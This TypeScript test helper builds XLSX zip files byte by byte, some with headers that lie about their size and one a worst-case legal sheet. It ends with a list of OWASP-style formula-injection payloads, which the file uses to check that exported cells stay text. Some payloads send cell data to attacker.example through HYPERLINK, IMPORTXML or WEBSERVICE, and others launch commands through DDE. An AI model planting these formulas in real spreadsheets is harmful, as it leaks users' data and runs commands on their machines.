// Test support: XLSX files built byte by byte (stored or deflated zip entries, lying headers) for
// the reader's tests and the upload tests; exported as @portal/spreadsheet/testing, not published.
import { crc32, deflateRawSync } from 'node:zlib';
import { COLUMNS_MAX as COLUMNS_LIMIT, UNPACKED_MAX as UNPACKED_LIMIT } from './sheet';

export interface ZipEntry {
  readonly name: string;
  readonly data: Buffer;
  /** Deflated (method 8) instead of stored. */
  readonly deflate?: boolean;
  /** The unpacked size the headers claim, when a test needs them to lie. */
  readonly claimedSize?: number;
}

/** A zip archive of stored or deflated entries: enough for a spreadsheet a reader opens. */
export function zip(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data: unpacked, deflate = false, claimedSize } of entries) {
    const nameBytes = Buffer.from(name, 'utf8');
    const crc = crc32(unpacked);
    const data = deflate ? deflateRawSync(unpacked, { level: 9 }) : unpacked;
    const size = claimedSize ?? unpacked.length;
    const method = deflate ? 8 : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const escapeXml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const column = (index: number) => {
  let name = '';
  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26))
    name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
};

/**
 * The costliest XLSX the reader still parses for `rowsMax` rows: a small file (its cells repeat,
 * so it zips to a few hundred kB at most) whose one sheet holds exactly `cellsMaxFor(rowsMax)`
 * inline text cells, `rowsMax + 2` rows of `COLUMNS_MAX`, with text long enough that the sheet
 * unpacks to just under `unpacked` (`UNPACKED_MAX`). The benchmark uploads it; the tests check it
 * stays legal.
 */
export function worstLegalXlsx(rowsMax = 2000, unpacked = UNPACKED_LIMIT): Buffer {
  const rows = rowsMax + 2;
  const [first, ...rest] = xlsxEntries([['SKU']]);
  const others = rest.filter((entry) => !entry.name.startsWith('xl/worksheets/'));
  const open = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`;
  const close = '</sheetData></worksheet>';
  // cells without a reference (SheetJS places them one after another) repeat exactly and zip small
  const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
  // room left per cell once the markup without text is counted, a little kept back for the rows
  const fixedBytes = [first!, ...others].reduce((sum, entry) => sum + entry.data.length, 0);
  const budget = unpacked - fixedBytes - open.length - close.length - rows * 40;
  const text = 'x'.repeat(Math.floor(budget / (rows * COLUMNS_LIMIT)) - cell('').length);
  const parts: string[] = [open];
  for (let r = 1; r <= rows; r += 1) {
    parts.push(`<row r="${r}">${cell(text).repeat(COLUMNS_LIMIT)}</row>`);
  }
  parts.push(close);
  const sheet = { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(parts.join('')) };
  return zip([first!, ...others, sheet].map((entry) => ({ ...entry, deflate: true })));
}

/** A one-sheet XLSX of text cells (shared strings), as a spreadsheet program saves one. */
export const xlsxOf = (rows: readonly (readonly string[])[], deflate = false): Buffer =>
  zip(xlsxEntries(rows).map((entry) => ({ ...entry, deflate })));

/** The parts of a one-sheet XLSX of text cells, to zip as they are or with more entries. */
export function xlsxEntries(rows: readonly (readonly string[])[]): ZipEntry[] {
  const strings: string[] = [];
  const indexOf = (text: string) => {
    const found = strings.indexOf(text);
    if (found >= 0) return found;
    strings.push(text);
    return strings.length - 1;
  };
  const sheetRows = rows
    .map(
      (cells, r) =>
        `<row r="${r + 1}">${cells
          .map((text, c) => `<c r="${column(c)}${r + 1}" t="s"><v>${indexOf(text)}</v></c>`)
          .join('')}</row>`,
    )
    .join('');
  const xml = (body: string) =>
    Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${body}`);
  const ns = 'http://schemas.openxmlformats.org';
  return [
    {
      name: '[Content_Types].xml',
      data: xml(
        `<Types xmlns="${ns}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`,
      ),
    },
    {
      name: '_rels/.rels',
      data: xml(
        `<Relationships xmlns="${ns}/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ),
    },
    {
      name: 'xl/workbook.xml',
      data: xml(
        `<workbook xmlns="${ns}/spreadsheetml/2006/main" xmlns:r="${ns}/officeDocument/2006/relationships"><sheets><sheet name="Products" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: xml(
        `<Relationships xmlns="${ns}/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${ns}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
      ),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: xml(
        `<worksheet xmlns="${ns}/spreadsheetml/2006/main"><sheetData>${sheetRows}</sheetData></worksheet>`,
      ),
    },
    {
      name: 'xl/sharedStrings.xml',
      data: xml(
        `<sst xmlns="${ns}/spreadsheetml/2006/main" count="${strings.length}" uniqueCount="${strings.length}">${strings
          .map((s) => `<si><t>${escapeXml(s)}</t></si>`)
          .join('')}</sst>`,
      ),
    },
  ];
}

/**
 * Cells a spreadsheet program could run as formulas or DDE commands (OWASP "CSV Injection" and
 * its published payloads): every file the portal writes must hold them as text.
 */
export const FORMULA_CELLS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://attacker.example/")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '+1+1',
  '-1+1',
  '@A1',
  '=',
  '+',
  '-',
  '@',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
  '=1+1,"quoted, with a comma"',
  "'=1+1",
];
